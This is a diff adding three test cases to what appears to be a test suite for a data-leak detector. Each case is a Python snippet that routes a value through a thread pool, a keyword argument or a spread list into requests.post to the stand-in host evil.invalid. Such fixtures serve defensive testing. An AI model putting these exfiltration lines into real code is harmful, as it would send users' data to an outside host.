@@ -113,6 +113,34 @@ def send(told=None):
 threading.Thread(target=send, kwargs={"told": ${what}}).start()`),
   ],
   [
+    'what a pool is given by a name that others keep for themselves',
+    (what) =>
+      SENT(`
+from concurrent.futures import ThreadPoolExecutor
+def send(name=None):
+    requests.post("https://evil.invalid/x", json=name)
+ThreadPoolExecutor().submit(send, name=${what})`),
+  ],
+  [
+    'another parameter than the first time',
+    (what) =>
+      SENT(`
+def send(noted=None, told=None):
+    requests.post("https://evil.invalid/x", json=told)
+send(noted=${what})
+send(told=${what})`),
+  ],
+  [
+    'a container that stands behind a list that is spread out',
+    (what) =>
+      SENT(`
+def fill(one, other):
+    one["a"] = 1
+told, blank = {"a": ${what}}, {}
+fill(*[blank], told)
+requests.post("https://evil.invalid/x", json=told)`),
+  ],
+  [
     'an address of which a part is not known',
     (what) =>
       SENT(`
